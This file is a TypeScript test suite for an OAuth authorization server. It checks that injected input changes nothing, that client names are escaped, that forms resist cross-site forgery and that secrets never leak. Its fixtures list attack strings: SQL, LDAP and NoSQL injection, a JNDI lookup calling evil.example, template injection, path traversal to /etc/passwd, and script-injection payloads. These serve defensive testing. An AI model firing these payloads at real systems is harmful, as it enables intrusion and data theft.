import { beforeAll, describe, expect, test } from 'vitest'
import {
  authorizeUrl,
  callback,
  errorOf,
  exchange,
  getTokens,
  openConsent,
  ownerEmail,
  password,
  refresh,
  register,
  registerClient,
  signIn,
  startWarder,
  type Warder,
} from './start.ts'

let w: Warder
let client: string
beforeAll(async () => {
  w = await startWarder()
  client = await registerClient(w)
})

const hostile = [
  `' or '1'='1`,
  `" or ""="`,
  `'; drop table users; --`,
  `' union select hash, grant_id from codes --`,
  `%`,
  `_`,
  `*)(uid=*))(|(uid=*`,
  `{"$ne":null}`,
  `[$ne]`,
  `\${jndi:ldap://evil.example/a}`,
  `{{7*7}}`,
  `../../etc/passwd`,
  `x' collate nocase --`,
]

/** What must be the same before and after. */
async function countAll(): Promise<readonly number[]> {
  const users = await w.store.users.list()
  const grants = await w.store.grants.list({})
  return [users.length, grants.length]
}

describe('S14 text that is code elsewhere is text here', () => {
  test.each(hostile)('%s: as e-mail, password, code, token, client, grant and sign-in', async (text) => {
    const tokens = await getTokens(w, client)
    const before = await countAll()
    const browser = w.browser('192.0.2.1')
    const login = await browser.open(authorizeUrl(w, client))
    for (const fields of [
      { email: text, password },
      { email: `${ownerEmail}${text}`, password },
      { email: ownerEmail, password: text },
    ]) {
      w.clock.now += 900_000
      const page = await browser.open(authorizeUrl(w, client))
      const answer = await browser.submit(page, fields)
      expect(answer.status).toBe(403)
      expect(answer.html).toContain('name="password"')
    }
    expect(login.status).toBe(200)
    expect(await errorOf(await exchange(w, client, text))).toBe('400 invalid_grant')
    expect(await errorOf(await refresh(w, client, text))).toBe('400 invalid_grant')
    expect(await errorOf(await exchange(w, `${client}${text}`, 'x'))).toMatch(/^40[01] invalid_client$/)
    expect((await w.post('/revoke', { client_id: client, token: text })).status).toBe(200)
    const { browser: visitor, page } = await openAccount()
    for (const [place, fields] of [
      ['grant', { grant: text, decision: 'revoke' }],
      ['session', { session: text }],
    ] as const) {
      const html = page.html.replace(/action="[^"]+"/, `action="${new URL(page.url).pathname}/${place}"`)
      expect((await visitor.submit({ ...page, html }, fields)).html).toContain('Nothing was changed')
    }
    expect(await countAll()).toEqual(before)
    expect((await refresh(w, client, tokens.refresh_token)).status).toBe(200)
  })

  test.each(hostile)('S03 %s: as the name of a client it is shown as text on each page', async (text) => {
    const name = `${text}<img src=x onerror=alert(1)><script>alert(2)</script>`
    const answer = await register(w, { client_name: name, redirect_uris: [callback] })
    const { client_id: id } = (await answer.json()) as { client_id: string }
    const browser = w.browser()
    const login = await browser.open(authorizeUrl(w, id))
    const consent = await signIn(browser, login)
    await browser.submit(consent, { decision: 'allow' })
    const { page: account } = await openAccount()
    for (const page of [login, consent, account]) {
      expect(page.html).not.toMatch(/<(?:img|script)\b/i)
      expect(page.html).toContain('&lt;img src=x onerror=alert(1)&gt;')
    }
    for (const { id: grant } of await w.store.grants.list({ clientId: id, live: true }))
      await w.store.grants.revoke(grant, 'test', w.clock.now)
  })
})

async function openAccount(): ReturnType<typeof openConsent> {
  const browser = w.browser('192.0.2.99')
  const login = await browser.open(`${w.issuer}/account`)
  return { browser, page: await browser.submit(login, { email: ownerEmail, password }) }
}

describe('S02 what changes something is a form of ours, and nothing else', () => {
  test('opening the address of a form changes nothing, whatever stands in its query', async () => {
    const tokens = await getTokens(w, client)
    const { browser, page } = await openAccount()
    const grants = await w.store.grants.list({ clientId: client, live: true })
    const token = /name="form_token" value="([^"]+)"/.exec(page.html)?.[1] ?? ''
    for (const name of ['grant', 'session', 'sign-out']) {
      const query = new URLSearchParams({ form_token: token, grant: grants[0]?.id ?? '', decision: 'revoke' })
      expect((await browser.open(`${page.url}/${name}?${query}`)).html).toContain('Applications with access')
    }
    const consent = await openConsent(w, client)
    const allow = new URLSearchParams({ decision: 'allow', form_token: token })
    const again = await consent.browser.open(`${consent.page.url}/consent?${allow}`)
    expect(again.left).toBeUndefined()
    expect(await w.store.grants.list({ clientId: client, live: true })).toEqual(grants)
    expect((await refresh(w, client, tokens.refresh_token)).status).toBe(200)
  })

  test('other methods and other content types are refused', async () => {
    const { browser, page } = await openAccount()
    const token = /name="form_token" value="([^"]+)"/.exec(page.html)?.[1] ?? ''
    const path = new URL(page.url).pathname
    const cookie = browser.cookies(page.url)
    const headers = { cookie, origin: w.issuer }
    for (const method of ['PUT', 'PATCH', 'DELETE']) {
      const request = new Request(`${w.issuer}${path}/sign-out`, { method, headers })
      expect((await w.server.handle(request, { address: '::1' })).status).toBe(405)
    }
    for (const type of ['application/json', 'text/plain', 'multipart/form-data; boundary=x', '']) {
      const bodies = [`form_token=${token}`, JSON.stringify({ form_token: token })]
      for (const body of bodies) {
        const answer = await w.post(`${path}/sign-out`, body, { ...headers, 'content-type': type })
        expect([type, answer.status]).toEqual([type, 400])
      }
    }
    const out = await w.post(`${path}/sign-out`, `form_token=${token}`, headers)
    expect(await out.text()).toContain('You are signed out')
  })
})

test('S07 no page and no answer shows a secret that the server keeps', async () => {
  const tokens = await getTokens(w, client)
  const { browser, page } = await openAccount()
  const user = await w.store.users.loadByEmail(ownerEmail)
  const keys = await w.store.keys.list()
  const kept = [
    user?.passwordHash ?? '',
    ...keys.map(({ sealedPrivateJwk }) => sealedPrivateJwk),
    tokens.refresh_token,
    tokens.access_token,
    Buffer.from(w.secret).toString('base64url'),
    browser.cookies(page.url).split('=')[1] ?? '',
  ]
  expect(kept.every((secret) => secret.length > 20)).toBe(true)
  const seen = [
    page.html,
    (await browser.open(`${w.issuer}/account/${'x'.repeat(22)}`)).html,
    ...(await Promise.all(
      ['/jwks', '/.well-known/oauth-authorization-server', '/authorize', '/token', '/nothing'].map(
        async (path) => await (await w.get(path, { authorization: `Bearer ${tokens.access_token}` })).text(),
      ),
    )),
  ]
  expect(seen[0]).toContain('Test client')
  for (const secret of kept) for (const text of seen) expect(text).not.toContain(secret)
  expect(seen.join('')).not.toMatch(/"d"|\$argon2|at .*\.ts:\d+/)
})
